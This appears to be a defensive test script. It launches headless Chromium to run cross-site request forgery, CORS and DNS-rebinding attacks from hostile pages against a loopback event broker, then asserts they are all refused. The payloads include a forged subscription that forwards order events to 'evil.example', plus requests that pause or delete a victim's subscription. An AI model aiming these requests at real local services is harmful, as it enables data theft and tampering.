// Web pages attack a broker on loopback, in a real Chromium. Usage: node attack.cjs BROKER CHROMIUM
//
// - An attack names the request that it makes the browser send; the broker's access log proves that the request
//   arrived, and shows its status. A request that may succeed because the page cannot read the response is marked
//   `readable`. If the request is a preflight, the request that it is for (`stopped`) must not follow.
// - After every attack the broker's stored data must be unchanged, and the page must have read nothing.
'use strict';

const assert = require('node:assert');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');
const { chromium } = require('playwright-core');
const { Broker } = require('./broker.cjs');

const FLAGS = [
    '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync',
    '--host-resolver-rules=MAP evil.test 127.0.0.1, MAP console.test 127.0.0.1',
];

/** The attacks of a page of another origin. `run` is evaluated in the page, with the broker address and a consumer. */
const ATTACKS = [
    {
        name: 'an ArrayBuffer without a type makes a topic', method: 'POST', path: '/v1/topics',
        run: ({ url }) => fetch(`${url}/v1/topics`, {
            method: 'POST', mode: 'no-cors', body: new TextEncoder().encode('{"id":"evil.topic","streaming":true}'),
        }).then((answer) => answer.text()),
    },
    {
        name: 'a Blob without a type makes a subscription', method: 'POST', path: '/v1/subscriptions',
        run: ({ url }) => fetch(`${url}/v1/subscriptions`, {
            method: 'POST', mode: 'no-cors', body: new Blob([JSON.stringify({
                code: 'thief', topic: 'shop.orders', eventTypes: [{ type: 'order.*' }], target: 'https://evil.example/', startFrom: 'earliest',
            })]),
        }).then((answer) => answer.text()),
    },
    {
        name: 'an empty body pauses a subscription', method: 'POST', path: '/v1/subscriptions/victim:pause',
        run: ({ url }) => fetch(`${url}/v1/subscriptions/victim:pause`, { method: 'POST', mode: 'no-cors' }).then((it) => it.text()),
    },
    {
        name: 'text/plain publishes an event', method: 'POST', path: '/v1/events',
        run: ({ url, event }) => fetch(`${url}/v1/events`, { method: 'POST', mode: 'no-cors', body: event }).then((it) => it.text()),
    },
    {
        name: 'a beacon pauses a subscription', method: 'POST', path: '/v1/subscriptions/victim:pause',
        run: ({ url }) => { navigator.sendBeacon(`${url}/v1/subscriptions/victim:pause`); return ''; },
    },
    ...['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'].map((enctype) => ({
        name: `a form (${enctype}) pauses a subscription`, method: 'POST', path: '/v1/subscriptions/victim:pause', enctype,
        run: ({ url, enctype }) => {
            document.body.innerHTML = `<iframe name="sink"></iframe>
                <form method="post" target="sink" enctype="${enctype}" action="${url}/v1/subscriptions/victim:pause"><input name="a"></form>`;
            document.forms[0].submit();
            return '';
        },
    })),
    {
        name: 'a sandboxed page (Origin: null) pauses a subscription', method: 'POST', path: '/v1/subscriptions/victim:pause',
        run: ({ url }) => {
            const frame = document.createElement('iframe');
            frame.sandbox = 'allow-scripts';
            frame.srcdoc = `<script>fetch('${url}/v1/subscriptions/victim:pause', {method: 'POST', mode: 'no-cors'})</script>`;
            document.body.append(frame);
            return '';
        },
    },
    {
        name: 'JSON with a preflight makes a topic', method: 'OPTIONS', path: '/v1/topics', stopped: 'POST',
        run: ({ url }) => fetch(`${url}/v1/topics`, {
            method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"id":"evil.topic","streaming":true}',
        }).then((answer) => answer.text()),
    },
    {
        name: 'a preflight deletes a subscription', method: 'OPTIONS', path: '/v1/subscriptions/victim', stopped: 'DELETE',
        run: ({ url }) => fetch(`${url}/v1/subscriptions/victim`, { method: 'DELETE' }).then((answer) => answer.text()),
    },
    {
        name: 'a read takes work from a shared group', method: 'GET', path: '/v1/events:poll',
        run: ({ url, consumer }) => fetch(`${url}/v1/events:poll?consumer_id=${consumer}&offset=0&timeout=0`, { mode: 'no-cors' })
            .then((answer) => answer.text()),
    },
    {
        name: 'an image takes work from a shared group', method: 'GET', path: '/v1/events',
        run: ({ url, consumer }) => { new Image().src = `${url}/v1/events?consumer_id=${consumer}&offset=0`; return ''; },
    },
    {
        name: 'a read with CORS reads events', method: 'GET', path: '/v1/events', readable: true,
        run: ({ url }) => fetch(`${url}/v1/events?topic=shop.orders&offset=0`).then((answer) => answer.text()),
    },
    {
        name: 'a read without CORS reads events', method: 'GET', path: '/v1/events', readable: true,
        run: ({ url }) => fetch(`${url}/v1/events?topic=shop.orders&offset=0`, { mode: 'no-cors' }).then((answer) => answer.text()),
    },
    {
        name: 'an EventSource reads events', method: 'GET', path: '/v1/events:stream', readable: true,
        run: ({ url }) => new Promise((resolve) => {
            const source = new EventSource(`${url}/v1/events:stream?topic=shop.orders&offset=0`);
            source.onmessage = (message) => { source.close(); resolve(message.data); };
            source.onerror = () => { source.close(); resolve(''); };
        }),
    },
    {
        name: 'a frame shows the documentation', method: 'GET', path: '/docs/', readable: true,
        run: ({ url }) => new Promise((resolve) => {
            const frame = document.createElement('iframe');
            frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML); } catch { resolve(''); } };
            frame.src = `${url}/docs/`;
            document.body.append(frame);
        }),
    },
];

/** The requests of a page of an allowed origin: it writes, reads and follows a stream. */
const USE = async ({ url, event, topic }) => {
    const headers = { 'content-type': 'application/json', 'idempotency-key': topic };
    const made = await fetch(`${url}/v1/topics`, { method: 'POST', headers, body: JSON.stringify({ id: topic, streaming: true }) });
    const stored = await fetch(`${url}/v1/events`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: event });
    const read = await (await fetch(`${url}/v1/events?topic=shop.orders&offset=0`)).text();
    const followed = await new Promise((resolve) => {
        const source = new EventSource(`${url}/v1/events:stream?topic=shop.orders&offset=0`);
        source.onmessage = (message) => { source.close(); resolve(message.data); };
        source.onerror = () => { source.close(); resolve(''); };
    });
    return { made: made.status, trace: made.headers.get('x-trace-id'), stored: stored.status, read, followed };
};

/** An empty page on its own port. */
async function site() {
    const server = http.createServer((_, answer) => answer.setHeader('content-type', 'text/html').end('<title>page</title>'));
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { server, port: server.address().port };
}

async function attack(page, broker, attack) {
    const [before, mark] = [await broker.snapshot(), broker.requests.length];
    const given = { url: broker.url, consumer: broker.consumer, event: JSON.stringify(broker.event('evil')), enctype: attack.enctype };
    const read = await page.evaluate(attack.run, given).catch(() => '');
    const { status } = await broker.request(mark, attack.method, attack.path);
    if (!attack.readable && !attack.stopped) assert.ok(status >= 400, `${attack.name}: responded ${status}`);
    assert.strictEqual(read, '', `${attack.name}: the page read ${read}`);
    const sent = broker.requests.slice(mark).some((it) => it.method === attack.stopped);
    assert.ok(!sent, `${attack.name}: ${attack.stopped} was sent`);
    assert.strictEqual(await broker.snapshot(), before, `${attack.name}: something changed`);
}

/** A page whose DNS name was rebound to the broker has the broker's origin, and must still read and write nothing. */
async function rebind(context, broker) {
    const before = await broker.snapshot();
    const page = await context.newPage();
    const shown = await page.goto(`http://evil.test:${broker.port}/healthz`);
    assert.strictEqual(shown.status(), 421, 'the rebound page itself');
    for (const [method, target] of [['GET', '/v1/events?topic=shop.orders&offset=0'], ['POST', '/v1/topics'], ['GET', '/docs/']]) {
        const answer = await page.evaluate(async ([method, target]) => {
            const headers = { 'content-type': 'application/json' };
            const body = method === 'POST' ? '{"id":"evil.topic","streaming":true}' : undefined;
            const answer = await fetch(target, { method, headers, body });
            return { status: answer.status, text: await answer.text() };
        }, [method, target]);
        assert.strictEqual(answer.status, 421, `rebound ${method} ${target}: ${answer.text}`);
        assert.ok(!answer.text.includes('the secret'));
    }
    assert.strictEqual(await broker.snapshot(), before, 'a rebound page changed something');
}

async function use(page, broker, url, topic) {
    const used = await page.evaluate(USE, { url, topic, event: JSON.stringify(broker.event('allowed')) });
    assert.deepStrictEqual([used.made, used.stored, used.trace?.length], [201, 201, 32], `${topic}: ${JSON.stringify(used)}`);
    assert.ok(used.read.includes('the secret') && used.followed.includes('the secret'), `${topic}: ${JSON.stringify(used)}`);
}

async function run(binary, executablePath) {
    const [evil, console_] = [await site(), await site()];
    const allowed = `http://console.test:${console_.port}`;
    const broker = await Broker.start(binary, [allowed]);
    const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'attack-browsers-profile-'));
    const context = await chromium.launchPersistentContext(profile, { executablePath, args: FLAGS });
    const failures = [];
    const attempt = (name, act) => act().catch((error) => failures.push(`${name}: ${error.message}`));
    let count = 0;
    try {
        for (const origin of [`http://127.0.0.1:${evil.port}`, `http://evil.test:${evil.port}`]) {
            for (const it of ATTACKS) {
                const page = await context.newPage();
                await page.goto(origin);
                await attempt(origin, () => attack(page, broker, it));
                await page.close();
                count += 1;
            }
        }
        await attempt('rebinding', () => rebind(context, broker));
        const page = await context.newPage();
        await page.goto(allowed);
        await attempt(allowed, () => use(page, broker, broker.url, 'console.topic'));
        await page.goto(`${broker.url}/docs/`);
        await attempt('own page', () => use(page, broker, '', 'own.topic'));
    } finally {
        await context.close();
        await broker.stop();
        [evil, console_].forEach((it) => it.server.close());
        fs.rmSync(profile, { recursive: true, force: true });
    }
    failures.forEach((failure) => console.error(failure));
    assert.strictEqual(failures.length, 0, `${failures.length} attacks or permitted requests did not have the expected result`);
    console.log(`${count} attacks and a rebound name were refused; an allowed origin and the broker's own page work`);
}

run(process.argv[2], process.argv[3]).catch((error) => {
    console.error(error.message);
    process.exitCode = 1;
});
